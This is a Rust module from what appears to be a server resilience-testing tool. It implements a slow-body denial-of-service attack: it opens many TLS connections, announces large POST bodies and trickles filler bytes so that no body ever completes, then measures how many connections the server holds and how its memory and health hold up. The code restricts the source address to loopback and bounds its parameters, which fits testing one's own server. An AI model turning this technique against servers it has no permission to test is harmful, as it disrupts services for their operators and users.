//! `attack slow-body`: POSTs announcing `--body-bytes` whose body arrives `--chunk-bytes` every
//! `--interval`. A connection counts as held while the server neither answers nor closes it
//! and our writes still go through.

use std::collections::BTreeMap;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Instant;

use serde::Serialize;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::sync::Semaphore;

use super::probe::{HealthProber, RssSampler, lock};
use super::{AttackTarget, Outcome, bounded, bounded_duration, require_loopback};
use crate::cli::{AlpnChoice, SlowBodyArgs};

#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct SlowBodyResult {
    pub from: String,
    pub attempted: u64,
    pub opened: u64,
    pub open_failed: u64,
    /// The server answered before the body was complete (status → count).
    pub answered: BTreeMap<String, u64>,
    /// Closed by the server without an answer (EOF, reset, failed write).
    pub closed_by_server: u64,
    pub max_held: u64,
    /// Still waiting for their body when --duration was over.
    pub held_at_end: u64,
    /// Body bytes written, all connections.
    pub body_bytes_sent: u64,
    pub duration_secs: f64,
    pub open_errors: BTreeMap<String, u64>,
}

#[derive(Default)]
struct Counters {
    open: AtomicU64,
    max_open: AtomicU64,
    closed: AtomicU64,
    bytes: AtomicU64,
}

pub async fn run(target: &AttackTarget, a: &SlowBodyArgs) -> anyhow::Result<Outcome> {
    require_loopback("--from", a.from)?;
    let conns = bounded("--conns", a.conns, 1, 60_000)?;
    bounded("--body-bytes", a.body_bytes, 2, 64 << 20)?;
    let chunk = bounded("--chunk-bytes", a.chunk_bytes, 1, 1 << 20)?;
    let concurrency = bounded("--concurrency", a.concurrency, 1, 4096)?;
    let duration = bounded_duration("--duration", a.duration)?;
    let rss = RssSampler::start(&a.common.server_pid, a.common.sample_every);
    let health = HealthProber::start(target, a.common.probe_from, a.common.sample_every);
    let t0 = Instant::now();
    let deadline = tokio::time::Instant::now() + duration;
    let counters = Arc::new(Counters::default());
    let errors = Arc::new(std::sync::Mutex::new(BTreeMap::<String, u64>::new()));
    let answered = Arc::new(std::sync::Mutex::new(BTreeMap::<String, u64>::new()));
    let gate = Arc::new(Semaphore::new(concurrency));
    let tls = target.tls_with_alpn(AlpnChoice::Http11);
    let head = super::raw::post_head(&target.authority, &a.path, a.body_bytes);
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..conns {
        let Ok(permit) = gate.clone().acquire_owned().await else {
            break;
        };
        let (t, tls, c, e, ans, head) = (
            target.clone(),
            tls.clone(),
            counters.clone(),
            errors.clone(),
            answered.clone(),
            head.clone(),
        );
        let (from, interval, body_bytes) = (a.from, a.interval, a.body_bytes);
        tasks.spawn(async move {
            let stream =
                super::raw::tls_from(&t, tls, from, std::time::Duration::from_secs(10)).await;
            drop(permit);
            let mut stream = match stream {
                Ok(s) => s,
                Err(msg) => {
                    *lock(&e).entry(msg).or_default() += 1;
                    return;
                }
            };
            let now = c.open.fetch_add(1, Ordering::Relaxed) + 1;
            c.max_open.fetch_max(now, Ordering::Relaxed);
            let gone = |c: &Counters| {
                c.open.fetch_sub(1, Ordering::Relaxed);
                c.closed.fetch_add(1, Ordering::Relaxed);
            };
            if stream.write_all(&head).await.is_err() {
                gone(&c);
                return;
            }
            // One byte short of the announced length, so the body never completes.
            let mut left = body_bytes - 1;
            let filler = vec![b' '; chunk];
            let mut tick = tokio::time::interval(interval);
            let mut buf = Vec::new();
            loop {
                tokio::select! {
                    _ = tick.tick(), if left > 0 => {
                        let n = chunk.min(left);
                        if stream.write_all(&filler[..n]).await.is_err() {
                            gone(&c);
                            return;
                        }
                        left -= n;
                        c.bytes.fetch_add(n as u64, Ordering::Relaxed);
                    }
                    r = read_some(&mut stream, &mut buf) => {
                        if let Some(status) = r {
                            *lock(&ans).entry(status).or_default() += 1;
                        }
                        gone(&c);
                        return;
                    }
                }
            }
        });
    }
    // Every handshake settled (opened or failed) before the counts are read.
    let all = gate.acquire_many(concurrency as u32).await;
    drop(all);
    tokio::time::sleep_until(deadline).await;
    let rss = rss.map(RssSampler::finish);
    let health = health.finish(target, a.common.probe_from).await;
    tasks.abort_all();
    let open_errors = lock(&errors).clone();
    let open_failed: u64 = open_errors.values().sum();
    let r = SlowBodyResult {
        from: a.from.to_string(),
        attempted: conns as u64,
        opened: conns as u64 - open_failed,
        open_failed,
        answered: lock(&answered).clone(),
        closed_by_server: counters.closed.load(Ordering::Relaxed),
        max_held: counters.max_open.load(Ordering::Relaxed),
        held_at_end: counters.open.load(Ordering::Relaxed),
        body_bytes_sent: counters.bytes.load(Ordering::Relaxed),
        duration_secs: t0.elapsed().as_secs_f64(),
        open_errors,
    };
    let summary = format!(
        "  slow bodies from {} ({} bytes announced, {} byte(s) every {:?}): {} opened, {} failed; \
         max held {}, still held after {:.0}s: {}; answered early {:?}, closed by the server {}\n{}",
        r.from,
        a.body_bytes,
        chunk,
        a.interval,
        r.opened,
        r.open_failed,
        r.max_held,
        r.duration_secs,
        r.held_at_end,
        r.answered,
        r.closed_by_server,
        super::idle::error_lines(&r.open_errors),
    );
    Ok(Outcome {
        result: serde_json::to_value(&r)?,
        summary,
        rss,
        healthz: Some(health),
    })
}

/// Resolves when the server does something: `Some(status)` for an answer, `None` for a close.
async fn read_some<S: tokio::io::AsyncRead + Unpin>(
    stream: &mut S,
    buf: &mut Vec<u8>,
) -> Option<String> {
    let mut chunk = [0u8; 4096];
    loop {
        match stream.read(&mut chunk).await {
            Ok(0) | Err(_) => return None,
            Ok(n) => {
                buf.extend_from_slice(&chunk[..n]);
                match super::raw::parse_head(buf) {
                    Ok(Some(h)) => return Some(h.status.to_string()),
                    Ok(None) => continue,
                    Err(e) => return Some(e),
                }
            }
        }
    }
}
